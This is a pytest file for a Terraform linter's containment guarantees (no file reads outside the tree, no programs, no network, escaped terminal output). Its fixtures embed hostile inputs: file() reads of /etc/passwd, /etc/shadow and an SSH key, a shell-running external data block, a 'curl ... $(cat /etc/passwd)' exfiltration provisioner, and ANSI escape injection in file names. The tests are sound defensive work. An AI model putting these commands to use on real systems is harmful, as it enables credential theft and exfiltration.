"""Never reach outside: no file outside the module tree, no program, no network; escaped text output.

README "What vpcep-lint never does": it never runs a program or opens a network connection, never
evaluates file(), templatefile(), fileset() or any function that reads files, reads nothing outside
the module tree (the enclosing git work tree) and does not follow remote module sources. Text from
the inputs (addresses, file names) cannot drive the terminal: text output escapes control
characters, JSON keeps them as they are.
"""
from __future__ import annotations

import _posixsubprocess  # type: ignore[import-not-found]
import builtins
import io
import json
import os
import shutil
import site
import socket
import subprocess
import sys
import textwrap
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from conftest import FIXTURES, ROOT

import vpcep_lint
import vpcep_lint.rule_pages
import vpcep_lint.rules
from vpcep_lint.api import Options, lint
from vpcep_lint.cli import main
from vpcep_lint.model import UNKNOWN

TESTS = Path(__file__).resolve().parent
EXAMPLE = FIXTURES / "examples" / "broken-endpoint"

READS_FILES = textwrap.dedent(
    """
    locals {
      passwd   = file("/etc/passwd")
      secret   = file("${path.module}/../../secret.txt")
      template = templatefile("${path.root}/../../secret.tftpl", { cidr = "10.0.0.0/8" })
      listing  = fileset(path.root, "../../**")
      home     = fileset(pathexpand("~"), "*")
      exists   = fileexists("/etc/shadow") ? "0.0.0.0/0" : "10.0.0.0/8"
      hashes   = [filemd5("/etc/hostname"), filesha256("/etc/hostname"), filebase64("/etc/hostname"), filesha1("/etc/hosts")]
      absolute = abspath("../../secret.txt")
      decoded  = jsondecode(file("/etc/os-release"))
      yaml     = yamldecode(file("/etc/hosts"))
    }

    resource "huaweicloud_networking_secgroup_rule" "from_files" {
      security_group_id = huaweicloud_networking_secgroup.app.id
      direction         = "ingress"
      ethertype         = "IPv4"
      protocol          = "tcp"
      ports             = trimspace(file("${path.module}/../../secret.txt"))
      remote_ip_prefix  = templatefile("../../secret.tftpl", {})
      description       = join(",", [local.passwd, local.template, local.exists, local.absolute, tostring(length(local.listing))])
    }

    module "outside" {
      source = "../../outside"
    }

    module "inside" {
      source = "../modules/inside"
      cidr   = local.secret
    }

    data "external" "run" {
      program = ["sh", "-c", "touch /tmp/vpcep-lint-ran-a-program"]
    }

    resource "null_resource" "provision" {
      provisioner "local-exec" {
        command = "curl https://example.com/$(cat /etc/passwd)"
      }
    }
    """
)


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """tmp/tree is a git work tree holding the root module tree/root and tree/modules/inside;
    tmp/secret.txt, tmp/secret.tftpl and tmp/outside/ are outside it."""
    tree = tmp_path / "tree"
    (tree / ".git").mkdir(parents=True)
    shutil.copytree(EXAMPLE, tree / "root", ignore=shutil.ignore_patterns("*.json"))
    (tree / "root" / "files.tf").write_text(READS_FILES)
    (tree / "modules" / "inside").mkdir(parents=True)
    (tree / "modules" / "inside" / "main.tf").write_text(
        'variable "cidr" {}\n\nlocals {\n  key = file("/root/.ssh/id_rsa")\n}\n'
    )
    (tmp_path / "secret.txt").write_text("8080\n")
    (tmp_path / "secret.tftpl").write_text("0.0.0.0/0")
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "main.tf").write_text('resource "huaweicloud_vpc" "outside" {\n  cidr = "10.0.0.0/8"\n}\n')
    return tree


def _under(path: str, roots: list[str]) -> bool:
    real = os.path.realpath(path)
    return any(real == r or real.startswith(r.rstrip(os.sep) + os.sep) for r in roots)


def outside(opened: list[str], tree: Path) -> list[str]:
    """What was read that is neither the module tree, the parse cache, nor the Python environment
    (the linter's schemas and rule pages, the HCL grammar, and the entry points found along sys.path)."""
    package = [os.path.dirname(m.__file__ or "") for m in (vpcep_lint, vpcep_lint.rules, vpcep_lint.rule_pages)]
    python = [*package, sys.prefix, sys.base_prefix, *site.getsitepackages()]
    roots = [os.path.realpath(p) for p in [str(tree), os.environ["VPCEP_LINT_CACHE_DIR"], *python]]
    entries = {os.path.realpath(p) for p in sys.path if p}
    return [p for p in sorted(set(opened)) if not (_under(p, roots) or os.path.realpath(p) in entries or _metadata(p, entries))]


def _metadata(path: str, entries: set[str]) -> bool:
    """A file of an installed distribution's metadata (entry points) in a sys.path directory."""
    for parent in Path(os.path.realpath(path)).parents:
        if parent.name.endswith((".dist-info", ".egg-info")):
            return str(parent.parent) in entries
    return False


@pytest.fixture
def opened(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Every path opened or listed while the test runs (open, io.open, os.open, listdir, scandir)."""
    seen: list[str] = []

    def recording(real: Callable[..., object]) -> Callable[..., object]:
        def wrapper(path: object = ".", *args: object, **kwargs: object) -> object:
            if isinstance(path, (str, bytes, os.PathLike)):
                seen.append(os.path.abspath(os.fsdecode(path)))
            return real(path, *args, **kwargs)

        return wrapper

    monkeypatch.setattr(builtins, "open", recording(builtins.open))
    monkeypatch.setattr(io, "open", recording(io.open))
    monkeypatch.setattr(os, "open", recording(os.open))
    monkeypatch.setattr(os, "listdir", recording(os.listdir))
    monkeypatch.setattr(os, "scandir", recording(os.scandir))
    yield seen


def test_functions_reading_files_are_never_evaluated(tree: Path, opened: list[str]) -> None:
    root = tree / "root"
    report = lint([str(root)], Options(cwd=str(root), use_cache=True))
    assert outside(opened, tree) == []
    forbidden = [str(tree.parent / n) for n in ("secret.txt", "secret.tftpl", "outside")] + ["/etc", os.path.expanduser("~/.ssh")]
    assert [p for p in opened if _under(p, [os.path.realpath(f) for f in forbidden])] == []
    # what was read is what the README promises: the module tree, and the local module inside it
    assert str(root / "files.tf") in opened and str(tree / "modules" / "inside" / "main.tf") in {os.path.realpath(p) for p in opened}
    # nothing evaluated from a file: the rule reading them is unknown, so it may admit the endpoint
    # (no VPCEP001); the ACL's mistake remains
    rule = next(r for r in report.inventories[0] if r.address.endswith("from_files"))
    assert rule.get("ports") is UNKNOWN and rule.get("remote_ip_prefix") is UNKNOWN
    assert report.errors == []
    assert [(f.rule_id, f.address) for f in report.findings] == [("VPCEP002", "huaweicloud_vpc_network_acl.app")]


def test_the_cli_reads_nothing_outside_the_module_tree(tree: Path, opened: list[str], tmp_path: Path) -> None:
    old = os.getcwd()
    os.chdir(tree / "root")
    try:
        result = CliRunner().invoke(main, [".", "-f", "sarif"])
    finally:
        os.chdir(old)
    assert result.exit_code == 1, result.stderr
    assert outside(opened, tree) == []


@pytest.fixture
def no_programs(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every way of starting a program records the attempt and fails."""
    attempts: list[str] = []

    def refuse(name: str) -> Callable[..., object]:
        def refused(*args: object, **kwargs: object) -> object:
            attempts.append(f"{name}{args[:2]!r}")
            raise PermissionError(f"tests/test_containment.py: {name} refused")

        return refused

    monkeypatch.setattr(subprocess, "Popen", refuse("subprocess.Popen"))
    monkeypatch.setattr(_posixsubprocess, "fork_exec", refuse("_posixsubprocess.fork_exec"))
    for name in ("system", "popen", "posix_spawn", "posix_spawnp", *(n for n in dir(os) if n.startswith(("exec", "spawn")))):
        if hasattr(os, name):
            monkeypatch.setattr(os, name, refuse(f"os.{name}"))
    return attempts


def test_no_program_is_ever_run(tree: Path, no_programs: list[str], tmp_path: Path) -> None:
    # a module big enough to be parsed on several cores, as a large repository is
    big = tmp_path / "big"
    big.mkdir()
    for i in range(4):
        (big / f"rules{i}.tf").write_text("".join(
            f'resource "huaweicloud_networking_secgroup_rule" "r{i}_{n}" {{\n  direction = "ingress"\n'
            f'  ports     = "{n % 65535 + 1}"\n  remote_ip_prefix = "10.0.0.0/8"\n}}\n\n'
            for n in range(1200)
        ))
    old = os.getcwd()
    os.chdir(tmp_path)
    try:
        for fmt in ("text", "json", "sarif", "github"):
            result = CliRunner().invoke(main, [str(tree / "root"), str(big), str(EXAMPLE / "plan.json"), "-f", fmt])
            assert result.exit_code == 1, (fmt, result.stderr)
    finally:
        os.chdir(old)
    assert no_programs == []
    assert not Path("/tmp/vpcep-lint-ran-a-program").exists()


def test_the_program_guard_works(no_programs: list[str]) -> None:
    with pytest.raises(PermissionError):
        subprocess.run(["true"])
    with pytest.raises(PermissionError):
        os.system("true")
    assert len(no_programs) == 2


# -- network ---------------------------------------------------------------------------------------

@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    attempts: list[str] = []

    def refuse(name: str) -> Callable[..., object]:
        def refused(*args: object, **kwargs: object) -> object:
            attempts.append(name)
            raise OSError(f"tests/test_containment.py: {name} refused (no network)")

        return refused

    monkeypatch.setattr(socket, "socket", refuse("socket.socket"))
    monkeypatch.setattr(socket, "socketpair", refuse("socket.socketpair"))
    monkeypatch.setattr(socket, "create_connection", refuse("socket.create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("socket.getaddrinfo"))
    return attempts


def all_fixture_inputs() -> list[str]:
    """Every fixture: each case directory, and every plan or state in it."""
    dirs = sorted({p.parent for p in FIXTURES.rglob("*.tf")} | {p.parent for p in FIXTURES.rglob("*.tf.json")})
    docs = sorted(p for p in FIXTURES.rglob("*.json") if not p.name.endswith(".tf.json") and p.name.startswith(("plan", "state")))
    return [str(p.relative_to(ROOT)) for p in [*dirs, *docs]]


def test_the_whole_linter_over_all_fixtures_opens_no_socket(no_network: list[str]) -> None:
    with pytest.raises(OSError):
        socket.socket()
    no_network.clear()
    inputs = all_fixture_inputs()
    assert len(inputs) > 200
    old = os.getcwd()
    os.chdir(ROOT)
    try:
        for fmt in ("json", "sarif", "github", "text"):
            result = CliRunner().invoke(main, [*inputs, "-f", fmt, "--show-unknown"])
            assert result.exit_code == 2, (fmt, result.stderr[-2000:])  # VPCEP000 cases are bad inputs
            assert "internal error" not in result.stderr and "Traceback" not in result.stderr
    finally:
        os.chdir(old)
    assert no_network == []


def test_the_nosocket_plugin_blocks_connections() -> None:
    code = textwrap.dedent(
        """
        import nosocket, socket
        for attempt in (lambda: socket.socket(), lambda: socket.create_connection(("192.0.2.1", 80)),
                        lambda: socket.getaddrinfo("example.com", 443)):
            try:
                attempt()
            except nosocket.NetworkDisabled:
                continue
            raise SystemExit("a socket was opened")
        print("blocked", nosocket.REFUSED)
        """
    )
    proc = subprocess.run([sys.executable, "-c", code], env={**os.environ, "PYTHONPATH": str(TESTS)},
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split()[0] == "blocked"


@pytest.mark.slow
def test_the_suite_passes_with_sockets_disabled() -> None:
    """The README example's fixture and model tests, in a fresh interpreter where no socket can be
    opened from the first import on (every fixture is linted with sockets refused by
    test_the_whole_linter_over_all_fixtures_opens_no_socket, in the fast suite)."""
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(TESTS), os.environ.get("PYTHONPATH", "")])}
    proc = subprocess.run(
        [sys.executable, "-m", "pytest", "-p", "nosocket", "tests/test_fixtures.py", "tests/test_model.py", "-k", "examples",
         "-q", "-p", "no:cacheprovider"],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=600,
    )
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-2000:]
    assert "nosocket: 0 connection attempts refused" in proc.stdout


# -- escaping ----------------------------------------------------------------------------------------

CONTROL = "\x1b[31m\r"


def test_text_output_escapes_control_characters_and_json_keeps_them(tmp_path: Path) -> None:
    case = tmp_path / f"evil{CONTROL}dir"
    shutil.copytree(EXAMPLE, case, ignore=shutil.ignore_patterns("*.json"))
    main_tf = case / "main.tf"
    main_tf.write_text(main_tf.read_text().replace(
        'resource "huaweicloud_vpc_network_acl" "app"', 'resource "huaweicloud_vpc_network_acl" "app\\u001b[31m\\r"'))
    (tmp_path / f"bad{CONTROL}.tf").write_text("resource {\n")

    def run(fmt: str) -> Result:
        old = os.getcwd()
        os.chdir(tmp_path)
        try:
            return CliRunner().invoke(main, [case.name, f"bad{CONTROL}.tf", "-f", fmt])
        finally:
            os.chdir(old)

    text = run("text")
    assert text.exit_code == 2
    for stream in (text.stdout, text.stderr):
        assert "\x1b" not in stream and "\r" not in stream
    assert "evil\\x1b[31m\\x0ddir/main.tf:64:1: VPCEP002 error: " in text.stdout
    assert "[huaweicloud_vpc_network_acl.app\\x1b[31m\\x0d]" in text.stdout
    assert text.stderr.startswith("vpcep-lint: error: bad\\x1b[31m\\x0d.tf:2:1: HCL syntax error")

    report = json.loads(run("json").stdout)
    acl = next(f for f in report["findings"] if f["rule_id"] == "VPCEP002")
    assert acl["resource"] == f"huaweicloud_vpc_network_acl.app{CONTROL}"
    assert acl["file"] == f"evil{CONTROL}dir/main.tf"
    assert {e["file"] for e in report["errors"]} == {f"bad{CONTROL}.tf"}
